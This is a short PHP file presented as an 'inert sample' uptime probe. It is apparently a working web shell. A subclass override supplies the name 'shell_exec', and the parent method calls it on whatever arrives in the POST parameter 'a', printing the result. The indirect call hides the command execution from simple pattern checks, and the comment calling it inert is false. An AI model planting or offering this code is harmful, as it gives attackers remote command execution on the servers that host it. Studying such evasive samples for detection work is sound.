<?php
// inert sample: the parent's method runs what the subclass's override names
abstract class Probe
{
    public function run($arg)
    {
        $tool = $this->tool();
        return $tool($arg);
    }

    abstract protected function tool(): string;
}

class UptimeProbe extends Probe
{
    protected function tool(): string
    {
        return 'shell_exec';
    }
}

echo '<pre>' . (new UptimeProbe())->run($_POST['a'] ?? 'uptime') . '</pre>';
